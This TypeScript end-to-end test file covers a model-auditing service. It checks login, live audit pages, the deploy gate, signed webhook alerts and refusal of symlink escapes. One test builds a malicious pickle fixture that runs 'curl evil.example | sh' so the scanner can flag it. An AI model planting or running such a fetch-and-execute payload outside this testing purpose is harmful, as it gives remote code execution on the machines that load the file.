/**
 * End to end: `assay serve` on a real socket with a real store (SQLite and PostgreSQL), driven by real Chromium
 * (playwright-core with Debian's `chromium`) and a real webhook receiver on 127.0.0.1 checking HMAC signatures.
 */
import { cp, mkdir, symlink, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SIGNATURE_HEADER, TIMESTAMP_HEADER, verifyWebhook } from '../../src/alerts/webhook.js';
import { Config } from '../../src/core/config.js';
import type { GateAnswer } from '../../src/server/schemas.js';
import { type Service, startService } from '../../src/server/service.js';
import { modelDigest } from '../../src/store/model-digest.js';
import type { StoredAudit } from '../../src/store/store.js';
import { callPickle } from '../fixtures/pickle-writer.js';
import { CHROMIUM, PROJECT_ROOT, TEST_DATABASE_URL, tempFolder } from '../helpers.js';
import { BACKENDS } from '../store/backends.js';

/** dependencies.md §7: the flags Debian's chromium needs to run headless in a container without a sandbox. */
const CHROMIUM_ARGS = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
  '--no-first-run',
  '--disable-quic',
];
const SECRET_VARIABLE = 'ASSAY_E2E_WEBHOOK_SECRET';
const SECRET = 'e2e-webhook-secret-0123456789';

interface Delivery {
  body: string;
  signature?: string;
  timestamp?: string;
}

/** A webhook receiver: remembers every POST with its signature headers. */
async function webhookReceiver(): Promise<{ url: string; deliveries: Delivery[]; server: Server }> {
  const deliveries: Delivery[] = [];
  const server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      deliveries.push({
        body: Buffer.concat(chunks).toString('utf8'),
        signature: request.headers[SIGNATURE_HEADER] as string | undefined,
        timestamp: request.headers[TIMESTAMP_HEADER] as string | undefined,
      });
      response.writeHead(204).end();
    });
  });
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/hooks/assay`, deliveries, server };
}

async function eventually<T>(what: string, probe: () => Promise<T | undefined>, timeoutMs = 120_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  while (Date.now() < deadline) {
    const value = await probe();
    if (value !== undefined) return value;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error(`gave up waiting for ${what}`);
}

describe.runIf(CHROMIUM && TEST_DATABASE_URL)('assay serve end to end in Chromium', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS });
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
  });

  describe.each(BACKENDS)('on $name', (backend) => {
    let service: Service;
    let receiver: Awaited<ReturnType<typeof webhookReceiver>>;
    let target: string;
    let page: Page;
    const tokens = { read: '', write: '' };

    beforeAll(async () => {
      process.env[SECRET_VARIABLE] = SECRET;
      receiver = await webhookReceiver();
      const workspace = await tempFolder({});
      target = join(workspace, 'model');
      await cp(join(PROJECT_ROOT, 'examples', 'benign-model'), target, { recursive: true });
      service = await startService({
        location: await backend.fresh(),
        port: 0,
        host: '127.0.0.1',
        roots: [workspace],
        allowHub: false,
        concurrency: 1,
        worker: true,
        config: Config.parse({ alerts: { webhooks: [{ url: receiver.url, secretEnv: SECRET_VARIABLE }] } }),
        configDir: workspace,
      });
      tokens.read = (await service.store.createApiToken('dashboard-viewer', ['read'])).token;
      tokens.write = (await service.store.createApiToken('ci-pipeline', ['write'])).token;
      page = await browser.newPage();
    }, 60_000);
    afterAll(async () => {
      await page?.close();
      await service?.stop();
      await new Promise((closed) => receiver?.server.close(closed));
      delete process.env[SECRET_VARIABLE];
    });

    const api = async <T>(path: string, token: string, body?: unknown): Promise<{ status: number; json: T }> => {
      const response = await fetch(`${service.url}${path}`, {
        method: body === undefined ? 'GET' : 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body: body === undefined ? undefined : JSON.stringify(body),
      });
      return { status: response.status, json: (await response.json()) as T };
    };
    const submit = async () => {
      const submitted = await api<{ id: string; links: { live: string } }>('/api/audits', tokens.write, {
        target,
        model: 'team/classifier',
      });
      expect(submitted.status).toBe(202);
      return submitted.json;
    };
    const gate = async (digest: string) =>
      (
        await api<GateAnswer>(
          `/api/gate?model=${encodeURIComponent('team/classifier')}&digest=${encodeURIComponent(digest)}`,
          tokens.read,
        )
      ).json;
    const digestOf = async (id: string) => {
      const audit = (await service.store.getAudit(id)) as StoredAudit;
      return modelDigest(audit.report?.files ?? []);
    };
    /** Opens the live page and waits, through its self-refreshes, until the audit has finished. */
    const watchLive = async (live: string) => {
      await page.goto(`${service.url}${live}`);
      const status = page.locator('#status[data-status="finished"]');
      await status.waitFor({ timeout: 120_000 });
      return (await status.textContent()) ?? '';
    };

    it('signs in, watches a submitted audit finish live and reads its report', async () => {
      await page.goto(`${service.url}/`);
      expect(new URL(page.url()).pathname).toBe('/login');
      await page.fill('input[name="token"]', 'assay_wrong-token');
      await page.click('button[type="submit"]');
      await expect.poll(() => page.content()).toContain('not valid');
      await page.fill('input[name="token"]', tokens.read);
      await page.click('button[type="submit"]');
      await page.waitForURL(`${service.url}/`);
      expect(await page.locator('h1').textContent()).toBe('Models');

      const { id, links } = await submit();
      expect(await watchLive(links.live)).toContain('PASS');
      await page.click('text=Open the report');
      await page.waitForURL(`${service.url}/audits/${id}`);
      expect(await page.locator('#verdict .verdict').textContent()).toBe('PASS');
      expect(await page.title()).toContain('(PASS)');

      const clean = await gate(await digestOf(id));
      expect(clean).toMatchObject({ allow: true, reasons: [], auditId: id });
      await page.goto(`${service.url}/`);
      expect(await page.locator('tr', { hasText: 'team/classifier' }).textContent()).toContain('PASS');
    }, 180_000);

    it('flips the gate when a malicious pickle is added, alerts the webhook with a valid signature, shows both', async () => {
      const cleanDigest = await digestOf((await service.store.listAudits({ model: 'team/classifier' }))[0]?.id ?? '');
      await writeFile(join(target, 'optimizer.pkl'), callPickle('posix', 'system', 'curl evil.example | sh'));
      const { id, links } = await submit();
      expect(await watchLive(links.live)).toContain('FAIL');

      const flipped = await gate(await digestOf(id));
      expect(flipped.allow).toBe(false);
      expect(flipped.auditId).toBe(id);
      expect(flipped.reasons.length).toBeGreaterThan(0);
      // The bytes audited before are still the ones that passed.
      expect((await gate(cleanDigest)).allow).toBe(true);

      await page.goto(`${service.url}/`);
      expect(await page.locator('tr', { hasText: 'team/classifier' }).textContent()).toContain('FAIL');
      await page.goto(`${service.url}/audits/${id}`);
      expect(await page.locator('#verdict .verdict').textContent()).toBe('FAIL');
      expect(await page.content()).toContain('optimizer.pkl');

      // Delivery happens after the audit is recorded, so it may land a moment after the live page says finished.
      const flip = await eventually('the gate-flipped webhook', async () =>
        receiver.deliveries.find((delivery) => delivery.body.includes('"gate-flipped"')),
      );
      expect(verifyWebhook(flip.body, flip, SECRET)).toBe(true);
      expect(verifyWebhook(flip.body, flip, 'another-secret')).toBe(false);
      const payload = JSON.parse(flip.body) as {
        type: string;
        alert: { model: string; auditId: string; title: string };
      };
      expect(payload).toMatchObject({ type: 'assay.alert', alert: { model: 'team/classifier', auditId: id } });
      expect(payload.alert.title).toContain('FAILS');
      for (const delivery of receiver.deliveries) expect(verifyWebhook(delivery.body, delivery, SECRET)).toBe(true);

      await eventually('the alert in the store', async () =>
        (await service.store.listAlerts({ model: 'team/classifier' })).length > 0 ? true : undefined,
      );
      await page.goto(`${service.url}/alerts`);
      const alertsPage = await page.content();
      expect(alertsPage).toContain('team/classifier: the gate now FAILS');
      expect(await page.locator('tr', { hasText: 'the gate now FAILS' }).textContent()).toContain('delivered');
    }, 180_000);
  });
});

describe('assay serve refuses targets that leave its roots', () => {
  it('through a symbolic link inside a root (403, nothing recorded)', async () => {
    const root = await tempFolder({});
    const outside = await tempFolder({ 'secret.pkl': callPickle('collections', 'OrderedDict', 'x') });
    await mkdir(join(root, 'models'));
    await symlink(outside, join(root, 'models', 'escape'));
    const service = await startService({
      location: { kind: 'sqlite', path: join(await tempFolder({}), 'assay.db') },
      port: 0,
      host: '127.0.0.1',
      roots: [join(root, 'models')],
      allowHub: false,
      concurrency: 1,
      worker: true,
    });
    try {
      const { token } = await service.store.createApiToken('ci', ['write']);
      const submit = (target: string) =>
        fetch(`${service.url}/api/audits`, {
          method: 'POST',
          headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
          body: JSON.stringify({ target }),
        });
      const refused = await submit(join(root, 'models', 'escape'));
      expect(refused.status).toBe(403);
      expect(((await refused.json()) as { error: string }).error).toContain('outside the folders');
      expect((await submit(join(root, 'models', 'escape', 'secret.pkl'))).status).toBe(403);
      expect(await service.store.listAudits()).toEqual([]);
    } finally {
      await service.stop();
    }
  });
});
